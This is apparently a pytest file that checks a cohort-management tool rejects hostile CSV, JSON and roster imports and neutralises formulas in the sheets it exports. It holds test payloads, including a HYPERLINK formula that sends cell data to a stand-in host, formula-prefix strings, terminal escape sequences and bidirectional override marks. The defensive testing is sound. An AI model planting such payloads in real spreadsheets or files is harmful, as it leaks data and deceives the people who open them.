"""Hostile imports and the sheets we hand out (issue 9, holes 6 and 8).

Every import (answers CSV/JSON, review sheet, roster) has a bounded cost and ends in one located line, never a
traceback; a sheet we write never carries a live formula, and a review sheet we wrote reads back to the values
we put in it.
"""

from __future__ import annotations

import csv
import io
import json
import os

import pytest
from sqlmodel import select

from lab.cli import app
from lab.domain.errors import UnsafePath
from lab.domain.models import Proposal, Review, Team
from lab.domain.slug import slugify
from lab.storage.tables import neutral, unneutral
from lab.workspace.cohort import workspace_session
from lab.workspace.settings import open_workspace
from tests import factories
from tests.helpers import diagnosed, drive_to_display, teams

HEAD = "stage,team,proposal,field,value\n"
ROW = "design,,PBG-2026-001,title,"
BIG = "x" * 200_000
DEEP = 100_000

# (id, file name, content, expected message with {f} for the file's path)
ANSWER_FILES = [
    ("csv-record-3000000", "a.csv", HEAD + "deliver,,PBG-2026-001,measures.3000000.indicator,x\n",
     "{f}:2: field 'measures.3000000.indicator': record numbers go up to 1,000"),
    ("csv-record-80-digits", "a.csv", HEAD + "diagnose,unit-uji-001,,ideas." + "9" * 80 + ".title,x\n",
     "{f}:2: field 'ideas." + "9" * 80 + ".title': record numbers go up to 1,000"),
    ("csv-record-5000-digits", "a.csv", HEAD + "diagnose,unit-uji-001,,ideas." + "9" * 5000 + ".title,x\n",
     "{f}:2: field is longer than 100 characters; give the field's id"),
    ("csv-record-gap", "a.csv", HEAD + "diagnose,unit-uji-001,,ideas.1.title,A\ndiagnose,unit-uji-001,,ideas.3.title,C\n",
     "a.csv:2: ideas.2 is missing but ideas.3 is given; number records from 1 without gaps"),
    ("csv-cell-over-128kb", "a.csv", HEAD + ROW + BIG + "\n", "{f}:2: a cell is longer than 128 KB; shorten it"),
    ("csv-quoted-cell-over-128kb", "a.csv", HEAD + ROW + '"' + BIG + '"\n', "{f}:2: a cell is longer than 128 KB; shorten it"),
    ("csv-short-row", "a.csv", HEAD + "design,,PBG-2026-001\n",
     "{f}:2: this row has 3 cells where the header has 5 columns; give every column a cell, even an empty one"),
    ("csv-long-row", "a.csv", HEAD + ROW + "Judul, dengan koma\n",
     "{f}:2: this row has 6 cells where the header has 5 columns; put a cell that contains ',' in double quotes"),
    ("csv-duplicate-column", "a.csv", "stage,team,proposal,field,value,value\n" + ROW + "a,b\n",
     "{f}:1: column 'value' appears twice (columns 5 and 6); keep one"),
    ("csv-unclosed-quote", "a.csv", HEAD + "design,,PBG-2026-001,title,ok\n" + ROW + '"Judul\n' + ROW + "x\n",
     '{f}:3: a double quote (") opens a cell that is never closed; close it or remove it'),
    ("csv-text-after-quote", "a.csv", HEAD + ROW + '"Judul" lama\n',
     '{f}:2: text after the closing double quote of a cell; write a quote inside a quoted cell as ""'),
    ("csv-nul-byte", "a.csv", HEAD + ROW + "Ju\x00dul\n", "{f}:2: value contains a control character (U+0000): remove it"),
    ("csv-escape-sequence", "a.csv", HEAD + ROW + "\x1b]0;owned\x07\n",
     "{f}:2: value contains a control character (U+001B): remove it"),
    ("csv-bidi-team-id", "a.csv", HEAD + "drum-up,unit-\u202euji,,signatory,x\n",
     "{f}:2: team contains an invisible direction mark (U+202E): remove it"),
    ("csv-long-team-id", "a.csv", HEAD + "drum-up," + "u" * 500 + ",,signatory,x\n",
     "{f}:2: team is longer than 100 characters; give the team's id"),
    ("csv-1001-items-in-a-cell", "a.csv", HEAD + "drum-up,unit-uji-001,,service_areas,\"" + "\n".join(["a"] * 1001) + '"\n',
     "{f}:2: 1,001 items in one cell; at most 1,000 are allowed"),
    ("csv-5000-digit-score", "a.csv", HEAD + "diagnose,unit-uji-001,,readiness_data," + "4" * 5000 + "\n",
     "{f}:2: {{#readiness_data}}: a number of 5,000 characters; numbers have at most 40"),
    ("csv-semicolon-missing-column", "a.csv", "stage;team;proposal;field\ndesign;;PBG-2026-001;title\n",
     "{f}:1: expected columns stage,team,proposal,field,value"),
    ("json-deep-nesting", "a.json", '{"worksheets": ' + "[" * DEEP + "]" * DEEP + "}",
     "{f}:1: answers are nested more than 16 levels deep"),
    ("json-deep-answers", "a.json",
     '{"worksheets": [\n{"team": "unit-uji-001", "stage": "drum-up",\n "answers": {"members": ' + "[" * 30 + "]" * 30 + "}}]}",
     "{f}:3: answers are nested more than 16 levels deep"),
    ("json-5000-digit-integer", "a.json",
     '{"worksheets": [\n{"team": "unit-uji-001", "stage": "drum-up", "answers": {"committed": 1' + "0" * 5000 + "}}]}",
     "{f}:2: a number with 5,001 digits; numbers have at most 40"),
    ("json-negative-huge-integer", "a.json", '{"worksheets": [-' + "9" * 4301 + "]}",
     "{f}:1: a number with 4,301 digits; numbers have at most 40"),
    ("json-top-level-string", "a.json", '"worksheets"', '{f}: expected an object {{"worksheets": [...]}}'),
    ("json-worksheets-object", "a.json", '{"worksheets": {"team": "x"}}', '{f}: expected an object {{"worksheets": [...]}}'),
    ("json-entry-a-number", "a.json", '{"worksheets": [7]}',
     'a.json: worksheets[0]: expected {{"team" or "proposal", "stage", "answers": {{...}}}}'),
    ("json-stage-a-list", "a.json", '{"worksheets": [{"stage": ["design"], "proposal": "PBG-2026-001", "answers": {}}]}',
     'a.json: worksheets[0]: "stage" must be text, not a list'),
    ("json-team-a-number", "a.json", '{"worksheets": [{"stage": "drum-up", "team": 12, "answers": {}}]}',
     'a.json: worksheets[0]: "team" must be text, not a number'),
    ("json-100000-records", "a.json",
     json.dumps({"worksheets": [{"stage": "diagnose", "team": "unit-uji-001", "answers": {"ideas": [{}] * 100_000}}]}),
     "a.json: worksheets[0]: answers.ideas has 100,000 items; at most 1,000 are allowed"),
    ("json-control-in-text", "a.json",
     json.dumps({"worksheets": [{"stage": "drum-up", "team": "unit-uji-001", "answers": {"service_areas": ["ok", "a\x08b"]}}]}),
     "a.json: worksheets[0]: answers.service_areas[1] contains a control character (U+0008): remove it"),
    ("json-control-in-field-name", "a.json",
     json.dumps({"worksheets": [{"stage": "drum-up", "team": "unit-uji-001", "answers": {"signa\ntory": "x"}}]}),
     "a.json: worksheets[0]: a field name in answers must be one line: remove the line break (U+000A)"),
]  # fmt: skip


@pytest.mark.parametrize("case,name,content,expected", ANSWER_FILES, ids=[c[0] for c in ANSWER_FILES])
def test_hostile_answer_files(ws, runner, tmp_path, case, name, content, expected):
    f = tmp_path / name
    f.write_text(content, encoding="utf-8")
    result = runner.invoke(app, ["answers", "import", str(ws.root), str(f)])
    assert "Traceback" not in result.output and not isinstance(result.exception, RecursionError)
    assert result.exit_code == 5, result.output
    assert result.output == "error: " + expected.format(f=f) + "\n"


WRONG_TYPES = [
    ("title-a-list", {"title": ["a", "b"]}, "Name of the innovation: must be text"),
    ("title-a-number", {"title": 5}, "Name of the innovation: must be text"),
    ("title-an-object", {"title": {"=cmd": "x"}}, "Name of the innovation: must be text"),
    ("records-a-string", {"milestones": "=HYPERLINK()"}, "Action plan: must be a list of items"),
]  # fmt: skip


@pytest.mark.parametrize("case,answers,expected", WRONG_TYPES, ids=[c[0] for c in WRONG_TYPES])
def test_answers_of_the_wrong_type_are_one_line_each(ws, runner, tmp_path, case, answers, expected):
    diagnosed(ws, 1, ideas=1, forward=1)
    f = tmp_path / "a.json"
    doc = {
        "worksheets": [
            {"proposal": "PBG-2026-001", "stage": "design", "answers": factories.design() | answers}
        ]
    }
    f.write_text(json.dumps(doc))
    result = runner.invoke(app, ["answers", "import", str(ws.root), str(f)])
    assert result.exit_code == 5 and "Traceback" not in result.output
    assert result.output.splitlines()[1:] == [
        f"error: a.json: worksheets[0]: PBG-2026-001 design: {expected}",
        "error: 1 entry not imported",
    ]


def test_a_semicolon_csv_from_indonesian_excel_is_imported(ws, runner, tmp_path):
    diagnosed(ws, 1, ideas=1, forward=1)
    design = factories.design("Antrean daring; tanpa kertas")
    rows = [["stage", "team", "proposal", "field", "value"]]
    for key, value in design.items():
        if isinstance(value, list) and value and isinstance(value[0], dict):
            rows += [["design", "", "PBG-2026-001", f"{key}.{n}.{k}", str(v)]
                     for n, rec in enumerate(value, 1) for k, v in rec.items()]  # fmt: skip
        else:
            rows.append(
                [
                    "design",
                    "",
                    "PBG-2026-001",
                    key,
                    "\n".join(value) if isinstance(value, list) else str(value),
                ]
            )
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    f = tmp_path / "jawaban.csv"
    f.write_bytes(b"\xef\xbb\xbf" + out.getvalue().encode())
    result = runner.invoke(app, ["answers", "import", str(ws.root), str(f)])
    assert result.exit_code == 0, result.output
    text = next(ws.root.glob("teams/*/PBG-2026-001/3-design.md")).read_text()
    assert "Antrean daring; tanpa kertas" in text


REVIEW_SHEETS = [
    ("duplicate-column", "proposal,reviewer,novelty,benefit,collaboration,replicability,mastery,note,note\n",
     "{f}:1: column 'note' appears twice (columns 8 and 9); keep one"),
    ("short-row", "proposal,reviewer,novelty,benefit,collaboration,replicability,mastery,note\nPBG-2026-001,Budi,8,8\n",
     "{f}:2: this row has 4 cells where the header has 8 columns; give every column a cell, even an empty one"),
    ("cell-over-128kb", "proposal,reviewer,novelty,benefit,collaboration,replicability,mastery,note\nPBG-2026-001,Budi,8,8,8,8,8," + BIG + "\n",
     "{f}:2: a cell is longer than 128 KB; shorten it"),
    ("semicolon-missing-column", "proposal;reviewer;novelty;benefit;collaboration;replicability;note\n",
     "{f}:1: missing column(s) mastery"),
    ("control-in-note", "proposal,reviewer,novelty,benefit,collaboration,replicability,mastery,note\nPBG-2026-001,Budi,8,8,8,8,8,\x1b[2J\n",
     "{f}:2: note contains a control character (U+001B): remove it"),
]  # fmt: skip


@pytest.mark.parametrize("case,content,expected", REVIEW_SHEETS, ids=[c[0] for c in REVIEW_SHEETS])
def test_hostile_review_sheets(ws, runner, tmp_path, case, content, expected):
    f = tmp_path / "nilai.csv"
    f.write_text(content)
    result = runner.invoke(app, ["review", "import", str(ws.root), str(f)])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert result.output == "error: " + expected.format(f=f) + "\n"


REVIEW_HEAD = "proposal;reviewer;novelty;benefit;collaboration;replicability;mastery;note\n"
REVIEW_ROWS = [
    ("reviewer-direction-mark", "PBG-2026-001;Budi\u202e;8;8;8;8;8;\n",
     "reviewer contains an invisible direction mark (U+202E): remove it"),
    ("reviewer-isolate", "PBG-2026-001;\u2066Budi;8;8;8;8;8;\n",
     "reviewer contains an invisible direction mark (U+2066): remove it"),
    ("reviewer-of-1000-chars", "PBG-2026-001;" + "B" * 1000 + ";8;8;8;8;8;\n", "reviewer is longer than 255 characters; shorten it"),
    ("proposal-id-of-100000-chars", "P" * 100_000 + ";Budi;8;8;8;8;8;\n",
     "PPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPPP\u2026 is not a showcased proposal of this cohort"),
]  # fmt: skip


@pytest.mark.parametrize("case,row,expected", REVIEW_ROWS, ids=[c[0] for c in REVIEW_ROWS])
def test_hostile_review_rows_are_row_problems(ws, runner, tmp_path, case, row, expected):
    f = tmp_path / "nilai.csv"
    f.write_text(REVIEW_HEAD + row)
    result = runner.invoke(app, ["review", "import", str(ws.root), str(f)])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert result.output.splitlines()[1:] == [
        f"error: nilai.csv:2: {expected}",
        "error: 1 row(s) not imported; the others were kept",
    ]


ROSTER_HEAD = "unit,unit_type,member,role,email\n"
ROSTERS = [
    ("bell-in-unit", ROSTER_HEAD + "Dinas\x07 Kesehatan,opd,A,,\n", "{f}:2: unit contains a control character (U+0007): remove it"),
    ("escape-in-member", ROSTER_HEAD + "Dinas Kesehatan,opd,\x1b[31mA,,\n", "{f}:2: member contains a control character (U+001B): remove it"),
    ("del-in-unit", ROSTER_HEAD + "Dinas\x7f,opd,A,,\n", "{f}:2: unit contains a control character (U+007F): remove it"),
    ("c1-csi-in-unit", ROSTER_HEAD + "Dinas\x9b2J,opd,A,,\n", "{f}:2: unit contains a control character (U+009B): remove it"),
    ("tab-in-unit", ROSTER_HEAD + "Dinas\tKesehatan,opd,A,,\n", "{f}:2: unit contains a control character (U+0009): remove it"),
    ("newline-in-unit", ROSTER_HEAD + '"Dinas\nKesehatan",opd,A,,\n', "{f}:2: unit must be one line: remove the line break (U+000A)"),
    ("line-separator-in-role", ROSTER_HEAD + "Dinas Kesehatan,opd,A,Ketua\u2028Admin,\n",
     "{f}:2: role must be one line: remove the line break (U+2028)"),
    ("right-to-left-override", ROSTER_HEAD + "Dinas \u202eanatahesek,opd,A,,\n",
     "{f}:2: unit contains an invisible direction mark (U+202E): remove it"),
    ("right-to-left-isolate", ROSTER_HEAD + "Dinas \u2067Kesehatan,opd,A,,\n",
     "{f}:2: unit contains an invisible direction mark (U+2067): remove it"),
    ("left-to-right-mark", ROSTER_HEAD + "Dinas\u200e Kesehatan,opd,A,,\n",
     "{f}:2: unit contains an invisible direction mark (U+200E): remove it"),
    ("arabic-letter-mark", ROSTER_HEAD + "Dinas\u061c Kesehatan,opd,A,,\n",
     "{f}:2: unit contains an invisible direction mark (U+061C): remove it"),
    ("unit-name-too-long", ROSTER_HEAD + "Dinas " + "a" * 300 + ",opd,A,,\n", "{f}:2: unit is longer than 255 characters; shorten it"),
    ("duplicate-column", "unit,unit_type,member,role,email,UNIT\nA,opd,B,,,C\n", "{f}:1: column 'unit' appears twice (columns 1 and 6); keep one"),
    ("short-row", ROSTER_HEAD + "Dinas Kesehatan,opd\n",
     "{f}:2: this row has 2 cells where the header has 5 columns; give every column a cell, even an empty one"),
    ("unquoted-comma", ROSTER_HEAD + "Dinas Kesehatan, Pengendalian Penduduk,opd,A,,\n",
     "{f}:2: this row has 6 cells where the header has 5 columns; put a cell that contains ',' in double quotes"),
    ("cell-over-128kb", ROSTER_HEAD + "Dinas,opd," + BIG + ",,\n", "{f}:2: a cell is longer than 128 KB; shorten it"),
    ("con", ROSTER_HEAD + "CON,opd,A,,\n", "ok:con-unit"),
    ("nul-with-extension", ROSTER_HEAD + "nul.txt,opd,A,,\n", "ok:nul-txt"),
    ("aux", ROSTER_HEAD + "Aux,upt,A,,\n", "ok:aux-unit"),
    ("com1-superscript", ROSTER_HEAD + "COM\u00b9,upt,A,,\n", "ok:com1-unit"),
    ("lpt9", ROSTER_HEAD + "lpt9,upt,A,,\n", "ok:lpt9-unit"),
    ("semicolon-excel", "\ufeffunit;unit_type;member;role;email\r\nDinas Kesehatan, Pengendalian Penduduk;opd;A;;\r\n",
     "ok:dinas-kesehatan-pengendalian-penduduk"),
]  # fmt: skip


@pytest.mark.parametrize("case,content,expected", ROSTERS, ids=[c[0] for c in ROSTERS])
def test_hostile_roster_names(ws, runner, tmp_path, case, content, expected):
    f = tmp_path / "roster.csv"
    f.write_text(content, encoding="utf-8")
    result = runner.invoke(app, ["roster", "import", str(ws.root), str(f)])
    assert "Traceback" not in result.output
    if expected.startswith("ok:"):
        assert result.exit_code == 0, result.output
        assert list(teams(ws)) == [expected[3:]]
    else:
        assert result.exit_code == 4
        assert result.output == "error: " + expected.format(f=f) + "\n"
        assert teams(ws) == {}


def test_normal_names_keep_their_slugs():
    assert slugify("Dinas Kesehatan") == "dinas-kesehatan"
    assert slugify("Kecamatan Kalimanah") == "kecamatan-kalimanah"
    assert slugify("RSUD dr. Goeteng Taroenadibrata") == "rsud-dr-goeteng-taroenadibrata"
    assert (
        slugify("Console") == "console"
        and slugify("Con Dinas") == "con-dinas"
        and slugify("COM10") == "com10"
    )


def test_the_hostile_corpus_of_this_part_is_large_enough():
    assert len(ANSWER_FILES) + len(WRONG_TYPES) + len(REVIEW_SHEETS) + len(REVIEW_ROWS) + len(ROSTERS) >= 40


# --- sheets we write ---------------------------------------------------------------------------------------

EVIL = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "plus": "+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "spaces": "   =1+1",
    "fullwidth": "\uff1d1+1",
    "quoted-already": "'=1+1",
    "error-value": "#N/A",
    "plain": "Antrean daring",
}


@pytest.mark.parametrize("value", EVIL.values(), ids=EVIL.keys())
def test_neutral_cells_read_back_exactly(value):
    cell = neutral(value)
    assert unneutral(cell) == value
    if value not in ("Antrean daring", "#N/A"):
        assert cell.startswith("'"), cell
    assert unneutral(neutral(cell)) == cell


def test_exports_never_carry_a_formula_and_numbers_stay_numbers(ws, tmp_path, monkeypatch):
    from openpyxl import load_workbook

    import lab.outputs.export

    def rows(ws, session, cohort):
        for n, (key, text) in enumerate(EVIL.items(), 1):
            row = dict.fromkeys(lab.outputs.export.columns(ws), "")
            row |= {"id": f"PBG-2026-{n:03d}", "name": text, "unit": text, "design": text, "decree": text,
                    "score": -1.5, "reviews": -2, "evidence_count": 3, "beneficiaries": 1200}  # fmt: skip
            row["objectives"] = key
            yield row

    monkeypatch.setattr(lab.outputs.export, "rows", rows)
    with workspace_session(ws) as (session, cohort):
        out_csv = lab.outputs.export.export(ws, session, cohort, "csv", tmp_path / "x.csv")[0]
        out_xlsx = lab.outputs.export.export(ws, session, cohort, "xlsx", tmp_path / "x.xlsx")[0]
    from_csv = list(csv.DictReader(out_csv.open(encoding="utf-8-sig", newline="")))
    assert len(from_csv) == len(EVIL)
    for row, text in zip(from_csv, EVIL.values(), strict=True):
        for col in ("name", "unit", "design", "decree"):
            assert row[col] == neutral(text) and unneutral(row[col]) == text
            assert row[col][:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", " ")
        assert (row["score"], row["reviews"]) == ("-1.5", "-2")  # our numbers, not text
    book = load_workbook(out_xlsx)
    sheet = book.active
    header = [c.value for c in sheet[1]]
    for cells, text in zip(sheet.iter_rows(min_row=2), EVIL.values(), strict=True):
        by = dict(zip(header, cells, strict=True))
        for col in ("name", "unit", "design", "decree"):
            cell = by[col]
            assert cell.value == text.replace("\r", "\n") or cell.value == text  # XLSX keeps text as typed
            assert cell.data_type == "s", (col, text)
            assert cell.quotePrefix is (text != "Antrean daring")
        assert (by["score"].value, by["score"].data_type) == (-1.5, "n")
        assert (by["reviews"].value, by["beneficiaries"].value, by["evidence_count"].data_type) == (
            -2,
            1200,
            "n",
        )


COORDINATORS = ["@Ir. Bambang Hermanto", "-Dra. Sri Rahayu"]


def test_review_sheets_neutralise_team_text_and_read_back(ws, runner):
    text = (ws.root / "cohort.toml").read_text()
    (ws.root / "cohort.toml").write_text(
        text.replace("coordinators = []", f"coordinators = {json.dumps(COORDINATORS)}")
    )
    ws = open_workspace(ws.root)
    drive_to_display(ws, 2)
    with workspace_session(ws) as (session, cohort):
        showcased = session.exec(
            select(Proposal).where(Proposal.cohort_id == cohort.id, Proposal.state == "showcased")
        ).all()
        assert len(showcased) >= 2
        titles = dict(zip([p.code for p in showcased], [EVIL["hyperlink"], EVIL["tab"]], strict=False))
        for p in showcased:
            p.title = titles.get(p.code, EVIL["at"])
            session.get(Team, p.team_id).unit = EVIL["cr"] if p.code in titles else EVIL["minus"]
        from lab.workflow.review import write_review_sheets

        write_review_sheets(ws, session, cohort)
    for who in COORDINATORS:
        sheet = ws.root / "reviews" / f"{slugify(who)}.csv"
        raw = sheet.read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(raw, newline="")))
        assert rows[0] == ["proposal", "reviewer", "novelty", "benefit", "collaboration", "replicability",
                           "mastery", "note", "title", "unit"]  # fmt: skip
        for row in rows[1:]:
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (who, row)
            assert unneutral(row[1]) == who
            assert unneutral(row[8]) in {EVIL["hyperlink"], EVIL["tab"], EVIL["at"]}
            assert unneutral(row[9]) in {EVIL["cr"], EVIL["minus"]}
        # the coordinator scores in the sheet as written (apostrophes kept) and adds a note Excel would quote
        for row in rows[1:]:
            row[2:8] = ["8", "7", "9", "8", "8", "'=catatan -1"]
        out = io.StringIO()
        csv.writer(out, delimiter=";").writerows(rows)
        sheet.write_text(out.getvalue(), encoding="utf-8")
        result = runner.invoke(app, ["review", "import", str(ws.root), str(sheet)])
        assert result.exit_code == 0, result.output
        assert result.output.startswith(f"review: {len(rows) - 1} score row(s) from {who};")
    with workspace_session(ws) as (session, cohort):
        reviews = session.exec(select(Review).where(Review.cohort_id == cohort.id)).all()
    assert {r.reviewer for r in reviews} == set(COORDINATORS)
    assert {r.note for r in reviews} == {"=catatan -1"}


def _with_coordinator(ws):
    text = (ws.root / "cohort.toml").read_text()
    (ws.root / "cohort.toml").write_text(text.replace("coordinators = []", 'coordinators = ["Ir. Bambang"]'))
    return open_workspace(ws.root)


def _write_sheets(ws):
    from lab.workflow.review import write_review_sheets

    with workspace_session(ws) as (session, cohort):
        return write_review_sheets(ws, session, cohort)


def test_a_linked_reviews_folder_is_refused(ws, tmp_path):
    ws = _with_coordinator(ws)
    outside = tmp_path / "outside"
    outside.mkdir()
    if (ws.root / "reviews").exists():
        os.rmdir(ws.root / "reviews")
    os.symlink(outside, ws.root / "reviews")
    with pytest.raises(UnsafePath) as err:
        _write_sheets(ws)
    assert (
        str(err.value) == "reviews is a symbolic link; links are not followed: replace it with a real folder"
    )
    assert list(outside.iterdir()) == []


def test_a_linked_review_sheet_is_refused(ws, tmp_path):
    ws = _with_coordinator(ws)
    target = tmp_path / "secret.txt"
    target.write_text("do not touch")
    (ws.root / "reviews").mkdir(exist_ok=True)
    os.symlink(target, ws.root / "reviews" / "ir-bambang.csv")
    with pytest.raises(UnsafePath) as err:
        _write_sheets(ws)
    assert str(err.value) == (
        "reviews/ir-bambang.csv is a symbolic link; links are not followed: replace it with a real file"
    )
    assert target.read_text() == "do not touch"


def test_an_unreadable_edited_sheet_is_left_as_it_is(ws):
    ws = _with_coordinator(ws)
    assert _write_sheets(ws) == ["reviews/ir-bambang.csv", "reviews/ir-bambang.xlsx"]
    sheet = ws.root / "reviews" / "ir-bambang.csv"
    edited = b"proposal,reviewer,note\nPBG-2026-001,Ir. Bambang," + b"x" * 200_000 + b"\n"
    sheet.write_bytes(edited)
    assert _write_sheets(ws) == []
    assert sheet.read_bytes() == edited


def test_an_edited_semicolon_sheet_gains_rows_in_its_own_columns(ws, runner):
    ws = _with_coordinator(ws)
    drive_to_display(ws, 1)
    sheet = ws.root / "reviews" / "ir-bambang.csv"
    sheet.write_bytes(
        b"\xef\xbb\xbfunit;proposal;reviewer;novelty;benefit;collaboration;replicability;mastery;note\r\n"
    )
    assert _write_sheets(ws) == ["reviews/ir-bambang.csv"]
    lines = sheet.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1:] == ["Unit Uji 001;PBG-2026-001;Ir. Bambang;;;;;;"]
    sheet.write_text(lines[0] + "\r\n" + lines[1].replace(";;;;;;", ";8;7;8;9;8;baik") + "\r\n")
    result = runner.invoke(app, ["review", "import", str(ws.root), str(sheet)])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("review: 1 score row(s) from Ir. Bambang; 0 not scored yet")


def test_lab_export_of_a_cohort_with_formula_text(ws, runner, tmp_path):
    def design():
        d = factories.design(EVIL["hyperlink"])
        d |= {"objectives": EVIL["minus"], "benefits": EVIL["at"], "expected_results": EVIL["plus"]}
        return d

    drive_to_display(ws, 1, {"design": design})
    typed = {"name": EVIL["hyperlink"], "objectives": EVIL["minus"], "benefits": EVIL["at"],
             "expected_results": EVIL["plus"]}  # fmt: skip
    for fmt in ("csv", "xlsx"):
        result = runner.invoke(
            app, ["export", str(ws.root), "--format", fmt, "--output", str(tmp_path / f"x.{fmt}")]
        )
        assert result.exit_code == 0, result.output
    row = next(csv.DictReader((tmp_path / "x.csv").open(encoding="utf-8-sig", newline="")))
    assert {k: row[k] for k in typed} == {k: "'" + v for k, v in typed.items()}
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "x.xlsx").active
    by = dict(zip([c.value for c in sheet[1]], sheet[2], strict=True))
    assert {k: by[k].value for k in typed} == typed
    assert all(by[k].data_type == "s" and by[k].quotePrefix for k in typed)
    assert by["evidence_count"].value == 1 and by["evidence_count"].data_type == "n"
